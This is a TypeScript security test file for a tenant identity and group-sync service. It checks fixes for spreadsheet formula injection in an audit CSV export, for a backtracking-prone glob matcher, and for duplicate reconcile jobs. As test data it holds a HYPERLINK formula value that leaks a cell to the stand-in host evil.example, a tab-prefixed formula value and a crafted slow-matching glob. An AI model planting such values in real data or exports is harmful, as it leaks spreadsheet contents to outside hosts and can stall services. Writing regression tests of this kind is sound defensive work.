// Attacks on the surfaces merged together (test sign-in, pattern links, jobs, IdP checks, users
// prefix search, audit CSV, last sign-in), from outside: each test is a finding that failed before
// its fix (docs/security.md, "Attacked from outside").
import { IdentityProvider } from '../../src/identity-providers/identity-provider.entity';
import { JobRunner } from '../../src/jobs/job-runner.service';
import type { CompiledPattern } from '../../src/sync/engine';
import { SyncContextCache } from '../../src/sync/sync-context-cache';
import { seedPopulation } from '../support/jobs-seed';
import { newGroup, newGroupLink, newOidcIdp, newTenant } from '../support/factories';
import { startTestApp, TestApp } from '../support/test-app';

const api = (slug: string) => `/api/v1/tenants/${slug}`;

/**
 * The cells a spreadsheet that splits on `sep` sees in one CSV line: like Excel, a quote is only
 * special at the very start of a cell (so a comma-quoted field is no unit for a `;` spreadsheet).
 */
function cellsAsSplitBy(line: string, sep: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    let cell = '';
    if (line[i] === '"') {
      i++;
      while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
        cell += line[i] === '"' ? '"' : line[i];
        i += line[i] === '"' ? 2 : 1;
      }
      i++;
      while (i < line.length && line[i] !== sep) cell += line[i++];
    } else while (i < line.length && line[i] !== sep) cell += line[i++];
    cells.push(cell);
    i++;
  }
  return cells;
}

describe('attacks on the new surfaces', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp({ JOBS_RECONCILE_THRESHOLD: '5' });
  });
  afterAll(async () => t?.close());

  it('audit CSV: a value cannot start a formula cell in a spreadsheet that splits on ; or tab', async () => {
    const tenant = await newTenant(t);
    const evil = 'Ops;=HYPERLINK("http://evil.example/?"&A1,"x")';
    await newGroup(t, tenant.slug, { name: evil });
    await newGroup(t, tenant.slug, { name: 'Tabbed\t+1+cmd' });
    const csv = await t.op.get(`${api(tenant.slug)}/audit-events.csv`).expect(200);
    const lines = (csv.text as string).split('\r\n').filter((l) => l !== '');
    expect(lines.length).toBeGreaterThan(2);
    expect(csv.text).toContain('HYPERLINK'); // the value is still there, defused
    for (const sep of [',', ';', '\t'])
      for (const line of lines)
        for (const cell of cellsAsSplitBy(line, sep)) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('pattern links: globs run on the linear-time engine, and still match exactly what they say', async () => {
    const tenant = await newTenant(t);
    const idp = await newOidcIdp(t, tenant.slug);
    const eng = await newGroup(t, tenant.slug, { name: 'Eng' });
    const ops = await newGroup(t, tenant.slug, { name: 'Ops' });
    const team = await newGroup(t, tenant.slug, { name: 'Team' });
    // A glob shaped to make a two-pointer matcher take pattern x name steps on every claim.
    const crafted = `*${'a'.repeat(150)}b`;
    await newGroupLink(t, tenant.slug, eng.id, {
      externalGroup: crafted,
      role: 'developer',
      matchType: 'glob',
    });
    await newGroupLink(t, tenant.slug, ops.id, {
      externalGroup: '*(ops)*',
      role: 'developer',
      matchType: 'glob',
    });
    await newGroupLink(t, tenant.slug, team.id, {
      externalGroup: 'team-?.x',
      role: 'developer',
      matchType: 'glob',
    });
    const claims = [
      ...Array.from({ length: 300 }, (_, i) => `${'a'.repeat(300)}${i}`),
      `x${'a'.repeat(150)}b`,
      'my-(ops)-group',
      'my-ops-group',
      'team-1.x',
      'team-12.x',
      'team-1yx',
    ];
    const preview = await t.op
      .post(`${api(tenant.slug)}/sync/preview`)
      .send({ idp: idp.slug, email: 'glob@example.com', groups: claims })
      .expect(200);
    const added = (preview.body.adds as { groupId: string }[]).map((a) => a.groupId);
    expect(added.sort()).toEqual([eng.id, ops.id, team.id].sort());
    const reasons = (preview.body.adds as { reason: string }[]).map((a) => a.reason).join(' ');
    expect(reasons).toContain('"my-(ops)-group"');
    expect(reasons).toContain('"team-1.x"');

    // The service's own context: every glob compiled to a regular expression for RE2JS.
    const row = await t.dataSource.getRepository(IdentityProvider).findOneByOrFail({ id: idp.id });
    const context = await t.app
      .get(SyncContextCache)
      .get(t.dataSource.manager, row.tenantId, row.id, row.groupSync);
    const index = context.patterns as unknown as {
      prefixed: CompiledPattern[];
      unprefixed: CompiledPattern[];
    };
    const all = [...index.prefixed, ...index.unprefixed];
    expect(all).toHaveLength(3);
    for (const pattern of all) expect(pattern.regexSource).toMatch(/^\(\?s:/);
  });

  it('jobs: repeating a large reconcile answers the queued job instead of piling up new ones', async () => {
    const w = await seedPopulation(t, 12);
    const first = await t.op
      .post(`${api(w.slug)}/sync/reconcile`)
      .send({})
      .expect(202);
    const again = await t.op
      .post(`${api(w.slug)}/sync/reconcile`)
      .send({})
      .expect(202);
    expect(again.body.job.id).toBe(first.body.job.id);
    expect(again.headers.location).toBe(`${api(w.slug)}/jobs/${first.body.job.id}`);
    const list = await t.op.get(`${api(w.slug)}/jobs`).expect(200);
    expect(list.body.items).toHaveLength(1);
    const queuedEvents = await t.op.get(`${api(w.slug)}/audit-events?action=job.queued`).expect(200);
    expect(queuedEvents.body.items).toHaveLength(1);
    // Once it ran, a new request is new work: a new job.
    expect(await t.app.get(JobRunner).runNext()).toBe(first.body.job.id);
    const later = await t.op
      .post(`${api(w.slug)}/sync/reconcile`)
      .send({})
      .expect(202);
    expect(later.body.job.id).not.toBe(first.body.job.id);
  });
});
